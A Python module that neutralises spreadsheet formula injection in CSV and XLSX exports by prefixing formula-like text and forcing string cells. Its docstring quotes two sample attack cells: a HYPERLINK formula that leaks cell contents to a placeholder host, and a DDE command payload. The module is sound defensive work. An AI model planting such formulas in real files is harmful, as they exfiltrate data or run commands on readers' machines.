"""Exported cells stay data: text a spreadsheet would read as a formula is written as text.

Names, teams and ids come from files anyone can type into, and the CSV and XLSX files we write are
opened in Excel on HR laptops, where a cell `=HYPERLINK("http://x/?leak="&A1,"click")` or
`=cmd|' /C calc'!A0` would run. OWASP's CSV-injection rule: no cell may begin with `=`, `+`, `-`,
`@`, tab or carriage return. Here a text is *formula-like* when

- its first character is tab, carriage return, line feed or NUL, or
- its first character after leading white space is `=`, `+`, `-` or `@` (some importers trim the
  spaces), or their full-width forms `＝`, `＋`, `－`, `＠` (a precaution for East Asian input), or
- it begins with `'` and the rest is formula-like (so that `plain` can undo `csv_text`),

unless it is exactly a decimal number such as `-3.5` or `+1e3`, which a spreadsheet reads as that
number and nothing else. Numbers (int, float) are never touched: `-3.5` stays a number.

- In CSV a formula-like text gets a leading `'` (OWASP); `plain` removes it again, so
  `plain(csv_text(t)) == t` for every text.
- In XLSX the text is kept as it is, in a string cell (openpyxl would otherwise store a text
  beginning with `=` as a formula) with Excel's quote prefix, so editing the cell keeps it text.
  XML cannot hold the control characters U+0000-U+0008, U+000B, U+000C, U+000E-U+001F: they are
  written as `\\xNN`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

PREFIX = "'"
_CONTROL_STARTS = frozenset("\t\r\n\0")
_FORMULA_STARTS = frozenset("=+-@＝＋－＠")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (or it is an escaped one, see above)."""
    while text.startswith(PREFIX):
        text = text[len(PREFIX):]
    if not text:
        return False
    if text[0] in _CONTROL_STARTS:
        return True
    return text.lstrip()[:1] in _FORMULA_STARTS and not _NUMBER.fullmatch(text)


def csv_text(value: Any) -> Any:
    """A CSV field: a formula-like text with a leading `'`, None as empty, anything else unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and formula_like(value):
        return PREFIX + value
    return value


def plain(text: str) -> str:
    """The text `csv_text` was given: for a program that reads our CSV files back."""
    if text.startswith(PREFIX) and formula_like(text[len(PREFIX):]):
        return text[len(PREFIX):]
    return text


def write_csv(handle: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write `header` and `rows` to the open text file `handle`, every field through `csv_text`."""
    csv.writer(handle).writerow([csv_text(v) for v in header])
    write_rows(handle, rows)


def write_rows(handle: IO[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write `rows` to the open text file `handle`, every field through `csv_text`.

    Only texts can be formula-like (None is written empty, numbers as they are, by the csv
    module itself), and texts repeat (a status, a source, a rule: a handful of distinct ones
    among half a million cells at 100,000 appraisees), so each distinct text is judged once."""
    seen: dict[str, str] = {}

    def escaped(text: str) -> str:
        found = seen.get(text)
        if found is None:
            found = seen[text] = csv_text(text)
        return found

    csv.writer(handle).writerows([escaped(v) if isinstance(v, str) else v for v in row] for row in rows)


def xlsx_value(value: Any) -> Any:
    """A value openpyxl can store: text without the control characters XML cannot hold."""
    if isinstance(value, str) and _NOT_IN_XML.search(value):
        return _NOT_IN_XML.sub(lambda m: f"\\x{ord(m.group()):02x}", value)
    return value


def mark_text(cell: Any) -> None:
    """Make an openpyxl cell holding text a string cell: never a formula, whatever it begins with."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if formula_like(cell.value):
            cell.quotePrefix = True
